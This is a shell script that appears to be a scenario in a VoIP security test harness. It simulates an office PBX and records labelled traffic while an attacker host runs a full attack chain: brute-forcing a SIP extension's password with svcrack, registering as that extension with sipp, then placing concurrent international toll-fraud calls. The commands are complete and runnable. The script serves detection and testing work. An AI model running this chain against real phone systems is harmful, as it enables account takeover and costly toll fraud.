# One host guesses the password of an account, registers with it and calls external numbers with it.
# Meanwhile the office telephones.
WEAK=1005
WEAK_PASSWORD=summer2025
open_office
add_attacker thief 203.0.113.140
start_office_capture
keep_alive 17
office_day 43 120
words >"$scratch/words"
at 10 attack A1 password_cracking thief 5070 "svcrack tries words as passwords of 1005 until one is right." \
    "$(version_of svcrack)" svcrack -b 203.0.113.140 -x 203.0.113.140 -P 5070 -t 0.15 -u "$WEAK" -d "$scratch/words" 192.0.2.1
at 45 attack A2 hijack:account_takeover thief 5062 "With the guessed password the same host registers as 1005." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$here/sipp/register.xml" -nostdin -m 1 -l 1 -r 1 -key parameters "" \
    -i 203.0.113.140 -p 5062 -s "$WEAK" -au "$WEAK" -ap "$WEAK_PASSWORD" 192.0.2.1:5060
printf '%s\n' SEQUENTIAL '0022501010101;' '0022501010102;' '0037190000101;' '0037190000102;' '0025290000101;' \
    '0025290000102;' '0025290000103;' '0022501010103;' >"$scratch/numbers.csv"
at 52 attack A3 toll_fraud thief 5064 "As 1005 the same host calls eight numbers abroad, several at once." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$here/sipp/fraud.xml" -nostdin -inf "$scratch/numbers.csv" \
    -i 203.0.113.140 -mi 203.0.113.140 -p 5064 -key user "$WEAK" -au "$WEAK" -ap "$WEAK_PASSWORD" -d 25000 \
    -r 1 -rp 4000 -m 8 -l 8 192.0.2.1:5060
echo "$WEAK toll_fraud" >>"$scratch/users"
play
wait_for A1 A2 A3
close_office
expect_said A1 "$WEAK_PASSWORD"
